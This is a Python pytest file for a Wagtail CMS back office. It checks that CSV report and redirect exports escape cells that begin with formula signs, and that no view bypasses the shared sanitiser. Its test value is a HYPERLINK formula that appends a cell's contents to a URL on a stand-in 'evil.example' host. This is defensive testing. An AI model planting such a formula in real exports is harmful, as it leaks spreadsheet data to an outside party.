"""Tables that the back office gives away: no cell of theirs runs in a spreadsheet."""

import csv
import io

import pytest
from django.urls import URLResolver, get_resolver
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect

from cms.models import AnnouncementPage
from tests.cms.backoffice import ADMINISTRATORS, browser, url
from tests.support import in_municipality, make_announcement

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("alpha", "beta")]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
SIGNS = ("=", "+", "-", "@", "\t", "\r")
# Views that give a table, and one of alpha's in which the formula has to stand.
WITH_PAGES = ("site_history", "aging_pages", "locked_pages")


def table(address):
    answer = browser("alpha", ADMINISTRATORS).get(f"{address}?export=csv")
    assert answer["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(answer.getvalue().decode())))


@pytest.mark.parametrize("name", WITH_PAGES)
def test_a_title_is_no_formula_in_a_report(name):
    page = make_announcement("alpha", title=FORMULA, slug="formula")
    with in_municipality("alpha"):
        AnnouncementPage.objects.filter(pk=page.pk).update(locked=True)
    rows = table(url(f"wagtailadmin_reports:{name}"))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(SIGNS)]


def test_where_redirects_lead_is_no_formula():
    with in_municipality("alpha"):
        Redirect.objects.create(old_path="/staro", redirect_link=FORMULA)
    assert f"'{FORMULA}" in table(url("wagtailredirects:index"))[1]


def views(patterns):
    for one in patterns:
        if isinstance(one, URLResolver):
            yield from views(one.url_patterns)
        else:
            yield getattr(one.callback, "view_class", None)


def test_no_view_writes_its_cells_in_a_way_of_its_own():
    found = {one for one in views(get_resolver("config.urls").url_patterns) if one}
    giving = {one for one in found if issubclass(one, SpreadsheetExportMixin)}
    assert len(giving) > 5
    for name in ("preprocess_field_value", "write_csv_row", "stream_csv"):
        ours = getattr(SpreadsheetExportMixin, name)
        assert [one for one in giving if getattr(one, name) is not ours] == [], name
